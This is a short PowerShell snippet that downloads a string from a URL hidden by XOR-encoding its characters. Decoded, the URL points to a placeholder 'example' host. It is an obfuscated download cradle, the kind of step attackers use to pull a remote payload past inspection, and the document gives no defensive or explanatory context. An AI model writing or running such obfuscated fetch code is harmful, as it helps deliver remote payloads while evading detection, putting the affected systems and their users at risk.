$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join (95,67,67,71,13,24,24,86,25,82,79,86,90,71,91,82,24,71,24,79,25,67,79,67 | %{[char]($_ -bxor 0x37)})))
